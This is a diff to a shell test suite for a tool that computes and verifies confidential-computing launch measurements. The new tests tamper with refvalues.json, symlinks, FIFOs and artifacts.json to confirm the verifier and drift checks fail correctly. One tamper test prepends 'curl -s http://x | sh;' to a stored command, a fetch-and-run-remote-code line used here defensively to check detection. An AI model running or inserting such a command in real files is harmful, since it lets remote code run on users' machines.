@@ -113,11 +113,15 @@ run "$MEASURE" refvalues --config "$T/release.json" "$R"
 expect_rc 0 "refvalues exits 0"
 RV=$R/refvalues.json
 check "12 values: 3 vCPU counts x 2 products (IGVM), 1 (clh), 2 x 2 (OVMF), 1 (cca)" test "$(jq '.values | length' "$RV")" = 12
+# the printed command, run as it is written (sh -c, `measure` on the PATH)
+# in the release folder, prints the value: refvalues computes in process
+# and must agree with the command an auditor runs
+mkdir -p "$T/bin" && ln -sf "$MEASURE" "$T/bin/measure"
 ok_all=1
 for i in $(seq 0 11); do
 	cmd=$(jq -r ".values[$i].command" "$RV")
 	want=$(jq -r ".values[$i].measurement" "$RV")
-	got=$(cd "$R" && eval "\"\$MEASURE\" ${cmd#measure }" 2>/dev/null)
+	got=$(cd "$R" && PATH="$T/bin:$PATH" sh -c "$cmd" 2>/dev/null)
 	[ "$got" = "$want" ] || { ok_all=0; echo "# value $i: '$cmd' printed $got, the file has $want"; }
 done
 check "every value is what its printed command prints in the release folder" test "$ok_all" = 1
@@ -216,6 +220,59 @@ jq '.contrast[.contrast | keys[0]].snp[0].TrustedMeasurement = ("f" * 96)' "$RV"
 run "$MEASURE" verify "$T/t/refvalues.json"
 expect_rc 3 "an edited Contrast entry: exit 3"
 expect_out_has "MISMATCH contrast: does not follow from the values" "is caught"
+# issue 13: the members that follow from the recipe are checked too
+tamper
+jq '.values[0].command = "curl -s http://x | sh; " + .values[0].command' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "an edited command: exit 3"
+expect_out_has "MISMATCH metal-qemu-snp-igvm/Milan/1: command: 'curl -s http://x | sh; measure snp" "names the value and its command"
+tamper
+jq '.values[1].inputs = {}' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "emptied inputs: exit 3"
+expect_out_has "MISMATCH metal-qemu-snp-igvm/Milan/2: inputs: pod-qemu.igvm is missing (the recipe reads it)" "names the input"
+tamper
+jq '.values[2].inputs["disk.img"] = .values[2].inputs["pod-qemu.igvm"]' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "an input the recipe does not read: exit 3"
+expect_out_has "inputs: disk.img is not a file of the recipe" "names it"
+tamper
+jq '.values[3].regions = []' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "emptied regions: exit 3"
+expect_out_has "MISMATCH metal-qemu-snp-igvm/Genoa/1: regions: not the recomputed ones" "names the member"
+tamper
+jq '.values[11].regions[1].updates = 7' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "an edited region: exit 3"
+expect_out_has "MISMATCH kvmtool-cca/1cpu: regions: not the recomputed ones (region" "names the value"
+tamper
+jq '.image.version = "9.9.9"' "$RV" >"$T/t/refvalues.json"
+run "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 3 "a changed image version: exit 3"
+expect_out_has "MISMATCH image.version: pod 9.9.9, but artifacts.json lists pod 1.2.3" "names the member"
+# an artifact must be a regular file inside the release folder
+tamper
+rm "$T/t/disk.img" && ln -s /dev/zero "$T/t/disk.img"
+run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 1 "an artifact that is a link to /dev/zero: exit 1 (and it ends)"
+expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to /dev/zero, outside the release folder" "names the artifact"
+tamper
+rm "$T/t/disk.img" && mkfifo "$T/t/disk.img"
+run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 1 "an artifact that is a FIFO: exit 1 (and it does not hang)"
+expect_out_has "missing  disk.img: $T/t/disk.img: a FIFO, not a regular file: refused" "names the artifact"
+tamper
+mv "$T/t/disk.img" "$T/outside.img" && ln -s "$T/outside.img" "$T/t/disk.img"
+run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 1 "an artifact linked to a file outside the folder, same bytes: exit 1"
+expect_out_has "missing  disk.img: $T/t/disk.img: a symbolic link to $T/outside.img, outside the release folder" "names it"
+tamper
+mv "$T/t/pod-clh.igvm" "$T/t/real.igvm" && ln -s real.igvm "$T/t/pod-clh.igvm"
+run timeout 60 "$MEASURE" verify "$T/t/refvalues.json"
+expect_rc 0 "a link to a file inside the folder is followed"
+rm -f "$T/outside.img"
+
 # refvalues.json that break the schema: verify names the member, as does
 # the schema check
 bad_rv() { # DESC JQ-FILTER NEEDLE
@@ -278,9 +335,26 @@ expect_out_has "drift: 11 of 12 values changed, 4 artifacts" "counts them (two c
 run "$MEASURE" drift --json "$RV" "$T/new/refvalues.json"
 check "drift --json: the region of each change" \
 	test "$(jq -r '[.changes[] | select(.id == "metal-qemu-snp-igvm/Genoa/4") | .region] | .[0]' "$T/out")" = cmdline
-jq '.values |= map(select(.vcpus != 4))' "$RV" >"$T/fewer.json"
-run "$MEASURE" drift "$RV" "$T/fewer.json"
+mkdir -p "$T/few" && cp "$A" "$T/few/artifacts.json"
+jq '.values |= map(select(.vcpus != 4))' "$RV" >"$T/few/fewer.json"
+run "$MEASURE" drift "$RV" "$T/few/fewer.json"
+expect_rc 3 "a removed value is drift: exit 3"
 expect_out_has "drift: metal-qemu-snp-igvm/Milan/4: removed" "a value that disappears is named"
-run "$MEASURE" drift "$T/fewer.json" "$RV"
+run "$MEASURE" drift "$T/few/fewer.json" "$RV"
 expect_out_has "drift: metal-qemu-snp-igvm/Genoa/4: added" "a value that appears is named"
+# issue 13: an artifacts.json that cannot be read is an error, never "equal"
+printf '{"version": 1, "files": [' >"$T/few/artifacts.json"
+cp "$RV" "$T/few/same.json"
+run "$MEASURE" drift "$RV" "$T/few/same.json"
+expect_rc 1 "drift with a corrupted artifacts.json on the new side: exit 1"
+expect_err_has "$T/few/artifacts.json: line 1:" "names the file"
+rm "$T/few/artifacts.json"
+run "$MEASURE" drift "$RV" "$T/few/same.json"
+expect_rc 1 "drift with the new side's artifacts.json deleted: exit 1"
+expect_err_has "$T/few/artifacts.json: cannot open" "names the file"
+run "$MEASURE" drift "$T/few/same.json" "$RV"
+expect_rc 1 "and with the old side's deleted: exit 1"
+mkdir -p "$T/bare" && cp "$RV" "$T/bare/a.json" && cp "$RV" "$T/bare/b.json"
+run "$MEASURE" drift "$T/bare/a.json" "$T/bare/b.json"
+expect_rc 0 "neither side with an artifacts.json: the values alone are compared"
 finish
